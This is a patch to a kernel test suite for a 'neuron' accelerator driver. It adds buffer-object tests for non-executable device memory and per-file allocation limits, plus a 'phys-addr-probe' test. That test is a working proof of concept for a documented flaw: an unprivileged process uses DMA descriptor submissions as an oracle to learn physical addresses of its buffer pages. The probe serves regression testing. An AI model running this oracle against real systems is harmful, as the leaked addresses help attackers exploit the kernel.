@@ -29,6 +29,7 @@ IGT_TEST_DESCRIPTION("BO_CREATE, BO_INFO, mmap, DRAM allocation, fdinfo and memo
 #define MiB		(1024ull * KiB)
 #define GiB		(1024ull * MiB)
 #define PAGE		4096ull
+#define PARAM_DIR	"/sys/module/neuron/parameters/"
 #define DRAM1_BASE	0x1000000000ull
 #define CHANNEL_SIZE	(4 * GiB)
 
@@ -776,6 +777,182 @@ igt_main
 			igt_assert(p == MAP_FAILED && errno == EOPNOTSUPP);
 		}
 		neuron_bo_close(fd, h);
+	}
+
+	igt_describe("Device memory is never executable: mmap with PROT_EXEC and mprotect to PROT_EXEC fail");
+	igt_subtest("mmap-dram-noexec") {
+		uint32_t h = bo_create(fd, PAGE, DRM_NEURON_BO_DRAM);
+		struct drm_neuron_bo_info info;
+		void *p;
+
+		neuron_bo_info(fd, h, &info);
+		igt_require_f(info.info_flags & DRM_NEURON_BO_INFO_MAPPABLE,
+			      "no DRAM BAR\n");
+		p = mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_SHARED, fd,
+			 info.mmap_offset);
+		igt_assert(p == MAP_FAILED && errno == EPERM);
+		p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
+			 info.mmap_offset);
+		igt_assert(p != MAP_FAILED);
+		igt_assert_eq(mprotect(p, PAGE, PROT_READ | PROT_EXEC), -1);
+		igt_assert_eq(errno, EACCES);
+		igt_assert_eq(mprotect(p, PAGE, PROT_READ), 0);
+		munmap(p, PAGE);
+		neuron_bo_close(fd, h);
+	}
+
+	igt_describe("One file cannot reserve more host BO bytes than the host's RAM "
+		     "(the device's mmap-offset space is shared): ENOSPC, other files unaffected");
+	igt_subtest("file-host-bound") {
+		uint64_t ram = (uint64_t)neuron_meminfo_kb("MemTotal") * KiB;
+		uint64_t big = (ram & ~(PAGE - 1)) - PAGE;
+		int fd2 = igt_neuron_open(0);
+		uint32_t a, b, c;
+
+		a = bo_create(fd2, big, DRM_NEURON_BO_HOST);
+		igt_assert_eq(__bo_create(fd2, big, DRM_NEURON_BO_HOST, 0, 0, &b), -ENOSPC);
+		igt_assert_eq(__bo_create(fd2, 2 * PAGE, DRM_NEURON_BO_HOST, 0, 0, &b), -ENOSPC);
+		/* Others still create, up to their own bound. */
+		c = bo_create(fd, big, DRM_NEURON_BO_HOST);
+		neuron_bo_close(fd, c);
+		neuron_bo_close(fd2, a);
+		b = bo_create(fd2, big, DRM_NEURON_BO_HOST);
+		neuron_bo_close(fd2, b);
+		close(fd2);
+	}
+
+	igt_describe("The per-file bounds on BO count, host bytes and DRAM bytes "
+		     "(module parameters): ENOSPC beyond, freed BOs give their share back");
+	igt_subtest("file-bounds") {
+		uint32_t h[9], x;
+		int fd2;
+
+		igt_require(geteuid() == 0);
+		igt_assert_eq(neuron_write_str(PARAM_DIR "file_bo_max", "8"), 0);
+		fd2 = igt_neuron_open(0);
+		for (int i = 0; i < 8; i++)
+			h[i] = bo_create(fd2, PAGE, i & 1 ? DRM_NEURON_BO_DRAM : DRM_NEURON_BO_HOST);
+		igt_assert_eq(__bo_create(fd2, PAGE, DRM_NEURON_BO_HOST, 0, 0, &h[8]), -ENOSPC);
+		igt_assert_eq(__bo_create(fd2, PAGE, DRM_NEURON_BO_DRAM, 0, 0, &h[8]), -ENOSPC);
+		x = bo_create(fd, PAGE, DRM_NEURON_BO_HOST);	/* another file */
+		neuron_bo_close(fd, x);
+		neuron_bo_close(fd2, h[0]);
+		h[0] = bo_create(fd2, PAGE, DRM_NEURON_BO_HOST);
+		for (int i = 0; i < 8; i++)
+			neuron_bo_close(fd2, h[i]);
+		igt_assert_eq(neuron_write_str(PARAM_DIR "file_bo_max", "65536"), 0);
+
+		igt_assert_eq(neuron_write_str(PARAM_DIR "file_host_max_mib", "1"), 0);
+		igt_assert_eq(neuron_write_str(PARAM_DIR "file_dram_max_mib", "1"), 0);
+		h[0] = bo_create(fd2, MiB, DRM_NEURON_BO_HOST);
+		igt_assert_eq(__bo_create(fd2, PAGE, DRM_NEURON_BO_HOST, 0, 0, &x), -ENOSPC);
+		h[1] = bo_create(fd2, MiB - PAGE, DRM_NEURON_BO_DRAM);
+		h[2] = bo_create(fd2, PAGE, DRM_NEURON_BO_DRAM);
+		igt_assert_eq(__bo_create(fd2, PAGE, DRM_NEURON_BO_DRAM, 0, 0, &x), -ENOSPC);
+		igt_assert_eq(__bo_create(fd2, 2 * MiB, DRM_NEURON_BO_HOST, 0, 0, &x), -ENOSPC);
+		neuron_bo_close(fd2, h[2]);
+		h[2] = bo_create(fd2, PAGE, DRM_NEURON_BO_DRAM);
+		/* A file closed with its BOs still mapped or shared: charged until freed. */
+		close(fd2);
+		fd2 = igt_neuron_open(0);
+		h[0] = bo_create(fd2, MiB, DRM_NEURON_BO_HOST);
+		close(fd2);
+		igt_assert_eq(neuron_write_str(PARAM_DIR "file_host_max_mib", "0"), 0);
+		igt_assert_eq(neuron_write_str(PARAM_DIR "file_dram_max_mib", "0"), 0);
+	}
+
+	/*
+	 * Issue #13 finding 5, kept as a test until the inference-path
+	 * redesign removes device addresses from the ABI: without an IOMMU a
+	 * host BO's device address is a physical address, and although
+	 * BO_INFO hides it from unprivileged callers, a user descriptor is an
+	 * oracle. Its source address is accepted only inside a listed BO
+	 * (else -EACCES), and copying 4 bytes from it into an owned semaphore
+	 * tells which page of the BO it is. This asserts that the oracle
+	 * (still) works, so that the day it stops the test fails and is
+	 * turned around with the fix.
+	 */
+	igt_describe("Documents finding 5 (#13): without an IOMMU an unprivileged user "
+		     "learns physical addresses of its host BO pages through user descriptors");
+	igt_subtest("phys-addr-probe") {
+		const uint64_t bo_size = 64 * MiB, host = 1ull << 46;
+		const uint64_t span = (uint64_t)neuron_meminfo_kb("MemTotal") * KiB * 2 +
+				      (2ull << 30);
+		uint32_t *result;
+		pid_t pid;
+
+		igt_require(geteuid() == 0);
+		igt_require_f(!dma_translated(fd), "DMA is translated: no physical address to learn\n");
+		result = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+		igt_assert(result != MAP_FAILED);
+		pid = fork();
+		igt_assert_gte(pid, 0);
+		if (pid == 0) {
+			int ufd = igt_neuron_open(0);
+			struct drm_neuron_core_acquire ca = { .core_mask = 1 };
+			struct drm_neuron_bo_info info = { 0 };
+			struct drm_neuron_dma_desc d = {
+				.m2s_len_ctrl = 4 | (3u << 26), .m2s_meta = 0x01080003,
+				.s2m_len_ctrl = 4,
+				/* SET slot of semaphore 9 of core 0 */
+				.s2m_addr = 0xFFFC0000000ull + 0x2701100 + 4 * 9,
+			};
+			uint32_t h, *p, n;
+			struct drm_neuron_submit sub = {
+				.engine = 2, .queue = 6, .descs = (uintptr_t)&d, .desc_count = 1,
+				.bo_handle_count = 1,
+			};
+			struct drm_neuron_sem_op op = { .core = 0, .index = 9,
+							.op = DRM_NEURON_SEM_READ };
+			uint64_t seed = 13;
+
+			if (__bo_create(ufd, bo_size, DRM_NEURON_BO_HOST, 0, 0, &h) ||
+			    ioctl(ufd, DRM_IOCTL_NEURON_CORE_ACQUIRE, &ca))
+				_exit(2);
+			sub.bo_handles = (uintptr_t)&h;
+			p = neuron_bo_mmap(ufd, h, bo_size);
+			for (n = 0; n < bo_size / PAGE; n++)
+				p[n * PAGE / 4] = 0x5a000000u | n;
+			if (setresgid(65534, 65534, 65534) || setresuid(65534, 65534, 65534))
+				_exit(3);
+			info.handle = h;
+			if (ioctl(ufd, DRM_IOCTL_NEURON_BO_INFO, &info) ||
+			    !(info.info_flags & DRM_NEURON_BO_INFO_ADDR_HIDDEN))
+				_exit(4);
+			for (n = 1; n <= 4096; n++) {
+				uint64_t guess;
+
+				seed = seed * 6364136223846793005ull + 1442695040888963407ull;
+				guess = host | ((seed >> 16) % span & ~(PAGE - 1));
+				d.m2s_addr = guess;
+				if (ioctl(ufd, DRM_IOCTL_NEURON_SUBMIT, &sub)) {
+					if (errno != EACCES)
+						_exit(5);
+					continue;
+				}
+				/* Inside the BO: which page? (the job may still run) */
+				for (int t = 0; t < 1000; t++) {
+					if (ioctl(ufd, DRM_IOCTL_NEURON_SEM_OP, &op))
+						_exit(6);
+					if ((op.value & 0xff000000) == 0x5a000000)
+						break;
+					usleep(1000);
+				}
+				result[0] = n;
+				result[1] = op.value & 0xffffff;
+				result[2] = guess >> 32;
+				result[3] = (uint32_t)guess;
+				_exit((op.value & 0xff000000) == 0x5a000000 ? 0 : 7);
+			}
+			_exit(8);
+		}
+		neuron_wait_exit_ok(pid);
+		igt_info("page %u of the BO is at physical %#llx, found in %u probes\n",
+			 result[1], (unsigned long long)(((uint64_t)result[2] << 32 |
+							  result[3]) & ~(1ull << 46)),
+			 result[0]);
+		igt_assert_lt(result[1], bo_size / PAGE);
+		munmap(result, 4096);
 	}
 
 	igt_describe("A mapping keeps its BO alive after the handle and the file are closed");
